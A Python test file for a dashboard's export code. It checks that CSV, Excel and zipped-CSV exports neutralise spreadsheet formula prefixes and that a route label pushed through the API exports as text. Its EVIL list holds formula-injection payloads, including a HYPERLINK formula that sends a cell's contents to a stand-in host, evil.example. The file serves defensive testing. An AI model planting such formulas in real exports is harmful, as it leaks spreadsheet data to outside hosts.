"""Exports never carry a live spreadsheet formula from outside data: panel CSV and Excel
files, e-mailed report workbooks and CSV zips all neutralise = + - @ tab and CR prefixes."""

from __future__ import annotations

import csv
import io
import zipfile

from openpyxl import load_workbook

from collectors.store import write_request_timings
from dashboards import exports, reports
from dashboards.panels.base import Table

EVIL = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
]


def _table() -> Table:
    return Table(["route", "requests"], [[value, 5] for value in EVIL] + [["/v1/send", -3]])


def test_panel_csv_quotes_formula_prefixes():
    rows = list(csv.reader(io.StringIO(exports.to_csv(_table()).decode("utf-8-sig"))))
    assert [r[0] for r in rows[1:]] == ["'" + v for v in EVIL] + ["/v1/send"]
    assert rows[-1][1] == "-3"  # numbers stay numbers


def test_panel_and_report_workbooks_hold_text_not_formulas():
    panel = load_workbook(io.BytesIO(exports.to_xlsx(_table(), title="Routes"))).active
    report = load_workbook(
        io.BytesIO(reports.workbook([reports.Sheet("Routes", "Routes", _table())], subtitle="24h"))
    ).active
    for ws in (panel, report):
        cells = [c for row in ws.iter_rows() for c in row if c.value is not None]
        assert not [c.coordinate for c in cells if c.data_type == "f"]
        routes = [row[0] for row in ws.iter_rows(values_only=True)]
        data = routes[routes.index("route") + 1 :]
        # (openpyxl reads a stored carriage return back as a newline; what matters is the
        # leading apostrophe.)
        assert [v[:1] for v in data] == ["'"] * len(EVIL) + ["/"]
        assert [v[1:].replace("\n", "\r") for v in data[:-1]] == EVIL


def test_report_csv_zip_quotes_formula_prefixes():
    data = reports.csv_zip([reports.Sheet("Routes", "Routes", _table())])
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        text = zf.read("routes.csv").decode("utf-8-sig")
    assert [r[0] for r in csv.reader(io.StringIO(text))][1:-1] == ["'" + v for v in EVIL]


LINK = '=HYPERLINK("http://x","y")'


def test_a_pushed_route_label_exports_as_text(db, make_user, login_client):
    """A route label pushed through the API reaches the development page's route table; its
    CSV and Excel exports carry it as text."""
    write_request_timings(
        [{"service": "shop", "route": LINK, "method": "GET", "status": 200, "duration_ms": 12.0}]
        * 3
    )
    client = login_client(make_user("development"))
    base = "/dashboard/development/panels/route-latency/"
    rows = list(
        csv.reader(io.StringIO(client.get(base + "export.csv").content.decode("utf-8-sig")))
    )
    cells = [c for row in rows for c in row if "HYPERLINK" in c]
    assert cells and all(c.startswith("'") for c in cells), rows
    ws = load_workbook(io.BytesIO(client.get(base + "export.xlsx").content)).active
    found = [c for row in ws.iter_rows() for c in row if "HYPERLINK" in str(c.value or "")]
    assert found and all(c.data_type == "s" and c.value.startswith("'") for c in found)
